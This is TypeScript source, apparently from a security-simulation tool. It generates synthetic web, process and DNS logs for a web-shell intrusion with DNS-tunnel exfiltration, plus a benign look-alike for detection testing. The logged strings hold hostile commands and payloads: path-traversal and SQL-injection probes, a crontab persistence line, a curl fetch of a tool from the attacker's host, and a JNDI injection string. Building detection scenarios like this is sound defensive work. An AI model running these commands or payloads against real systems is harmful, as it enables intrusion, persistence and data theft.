import type { Line } from '../../records/kit.ts';
import { linuxProcess, type LinuxProgram, sshd, sudo, webRequest } from '../../records/linux.ts';
import { connection, question } from '../../records/zeek.ts';
import { clientPort, SECOND_MS } from '../stage.ts';
import type { Story } from '../story.ts';
import { type Server, serverOf } from '../world/world.ts';
import { lairOf } from './moves.ts';
import type { ScenarioMaker } from './scenario-maker.ts';

const SERVERS = ['/usr/sbin/apache2', '/usr/sbin/php-fpm8.3', '/usr/bin/java'] as const;

interface Shell {
  readonly server: Server;
  readonly parentImage: string;
  readonly from: string;
  readonly path: string;
  readonly userAgent: string;
}

/** A command through the shell: the request, the shell of the web server, and the program. */
function command(story: Story, { server, parentImage, from, path, userAgent }: Shell, [image, commandLine]: readonly [image: string, commandLine: string]): Line[] {
  const { kit, dice } = story;
  story.wait(0.2, 4);
  const common: Pick<LinuxProgram, 'host' | 'user'> = { host: server.name, user: 'www-data' };
  const pid = dice.int(5_000, 60_000);
  return [
    webRequest(kit, story.now(), { from, method: 'POST', path, status: 200, bytes: dice.int(40, 4_000), userAgent }),
    linuxProcess(kit, story.now() + 30, { ...common, pid, parentPid: 1_188, image: '/usr/bin/dash', commandLine: `sh -c ${commandLine}`, parentImage }),
    linuxProcess(kit, story.now() + 40, { ...common, pid: pid + 1, parentPid: pid, image, commandLine, parentImage: '/usr/bin/dash', parentCommandLine: `sh -c ${commandLine}` }),
  ];
}

export const webShellTunnel: ScenarioMaker = {
  name: 'web-shell-tunnel',

  attack(story) {
    const { kit, dice, cast } = story;
    const server = cast.server('web');
    const lair = lairOf(story);
    const userAgent = dice.one([lair.browser, 'python-requests/2.32.3', 'curl/8.9.1']);
    const parentImage = dice.one(SERVERS);
    story.step('probe', 'The site is searched for holes', 'reconnaissance', Array.from({ length: dice.int(10, 60) }, (_, i) => webRequest(kit, story.now() + i * 700, { from: lair.address, method: 'GET', path: dice.one(['/index.php?page=../../../../etc/passwd', '/.env', '/login?next=%27%20union%20select%201,2--', '/uploads/', '/api/v1/import?file=php://filter/read=x', '/wp-login.php', '/actuator/env']), status: dice.one([404, 404, 403, 500]), bytes: 150, userAgent })));
    story.wait(5, 200);
    const path = `/uploads/${dice.one(['avatar', 'import', 'logo'])}-${dice.hex(4)}.${parentImage.endsWith('java') ? 'jsp' : 'php'}`;
    story.step('shell', 'A web shell is put there', 'persistence', [webRequest(kit, story.now(), { from: lair.address, method: 'POST', path: '/api/v1/import', status: 201, bytes: 64, userAgent }), webRequest(kit, story.now() + 4_000, { from: lair.address, method: 'GET', path, status: 200, bytes: 0, userAgent })]);
    const shell: Shell = { server, parentImage, from: lair.address, path, userAgent };
    const looks = dice.some([['/usr/bin/id', 'id'], ['/usr/bin/whoami', 'whoami'], ['/usr/bin/uname', 'uname -a'], ['/usr/bin/cat', 'cat /etc/passwd'], ['/usr/sbin/ifconfig', 'ifconfig'], ['/usr/bin/ps', 'ps aux']] as const, dice.int(3, 5));
    story.step('look', 'Commands run through it', 'execution', looks.flatMap((one) => command(story, shell, one)));
    if (dice.chance(0.5)) story.step('keep', 'A way back is left', 'persistence', command(story, shell, ['/usr/bin/crontab', `(crontab -l; echo "*/20 * * * * /dev/shm/.x") | crontab -`]));
    story.wait(3, 60);
    const domain = cast.domain('cdn', 'static');
    const tool = dice.one(['/dev/shm/.dnscat', '/tmp/.cache/.d', '/var/tmp/.sess']);
    story.step('fetch', 'A tool is fetched', 'command-and-control', [...command(story, shell, ['/usr/bin/curl', `curl -s -o ${tool} http://${lair.address}:8000/d`]), ...command(story, shell, [tool, `${tool} --dns server=${domain}`]), connection(kit, story.now(), { from: server.address, fromPort: clientPort(story), to: lair.address, toPort: 8_000, service: 'http', seconds: 3, sent: 300, received: 1_200_000 })]);
    story.wait(1, 20);
    const resolver = serverOf(story.world, 'controller').address;
    const everyMs = dice.int(600, 5_000);
    const questions = dice.int(150, 500);
    const types = dice.one([['TXT'], ['TXT', 'CNAME', 'MX'], ['CNAME', 'TXT'], ['NULL']] as const);
    const tunnelled = Array.from({ length: questions }, (_, i) => question(kit, story.now() + i * everyMs, { from: server.address, fromPort: clientPort(story), to: resolver, toPort: 53, name: `${dice.hex(dice.int(40, 60))}.${dice.hex(dice.int(20, 50))}.t.${domain}`, type: types[i % types.length] ?? 'TXT', answers: [dice.hex(30)] }));
    story.step('tunnel', 'Data goes out in names, by way of the own resolver', 'exfiltration', tunnelled);
    story.goTo(story.now() + questions * everyMs);
    return story.end({ title: 'Web shell, tunnel through DNS', description: `A hole in the site of ${server.name} lets a shell in; data leaves in the names that the server asks the own resolver for.`, severity: 'high', domains: ['network', 'endpoint'] });
  },

  /** Checks of the web server run programs, the relay asks for names with keys in them, and scanners knock. */
  lookAlike(story) {
    const { kit, dice, world, cast } = story;
    const server = cast.server('web');
    const relay = serverOf(world, 'relay');
    const admin = cast.administrator();
    const resolver = serverOf(world, 'controller').address;
    story.step('probe', 'A scanner of the internet knocks', 'reconnaissance', Array.from({ length: dice.int(10, 40) }, (_, i) => webRequest(kit, story.now() + i * 900, { from: `198.19.${dice.int(100, 127)}.${dice.int(1, 254)}`, method: 'GET', path: dice.one(['/.env', '/wp-login.php', '/?x=%24%7Bjndi:ldap://198.19.100.9/a%7D']), status: 404, bytes: 153, userAgent: 'Mozilla/5.0 zgrab/0.x' })));
    story.wait(5, 60);
    story.step('look', 'The site makes previews with a tool', 'execution', Array.from({ length: 4 }, (_, i) => linuxProcess(kit, story.now() + i * 60 * SECOND_MS, { host: server.name, user: 'www-data', pid: 7_000 + i, parentPid: 1_188, image: '/usr/bin/convert', commandLine: `convert /var/www/uploads/${i}.png -resize 200x200 /var/www/uploads/${i}-small.png`, parentImage: '/usr/sbin/php-fpm8.3' })));
    story.step('admin', 'An administrator looks at the log', 'execution', [sshd(kit, story.now(), server.name, `Accepted publickey for ${admin.account} from ${serverOf(world, 'jump').address} port 50122 ssh2: ED25519 SHA256:${dice.hex(20)}`), sudo(kit, story.now() + 9_000, server.name, `${admin.account} : TTY=pts/0 ; PWD=/var/log ; USER=root ; COMMAND=/usr/bin/tail -n 100 nginx/access.log`), linuxProcess(kit, story.now() + 9_100, { host: server.name, user: 'root', pid: 9_100, parentPid: 9_000, image: '/usr/bin/tail', commandLine: 'tail -n 100 nginx/access.log', parentImage: '/usr/bin/sudo' })]);
    story.wait(5, 60);
    story.step('names', 'The relay asks for keys and policies of senders', 'command-and-control', Array.from({ length: dice.int(100, 240) }, (_, i) => question(kit, story.now() + i * 4_000, { from: relay.address, fromPort: clientPort(story), to: resolver, toPort: 53, name: dice.one([`s${dice.int(1, 9)}._domainkey.${dice.one(world.partners).domain}`, `_dmarc.${dice.one(world.partners).domain}`, dice.one(world.partners).domain]), type: 'TXT', answers: ['v=spf1 -all'] })));
    return story.end({ title: 'Previews, checks of mail, knocking scanners', description: `The site on ${server.name} makes previews, the relay asks for the keys of senders, scanners of the internet knock.`, domains: ['network', 'endpoint'] });
  },
};
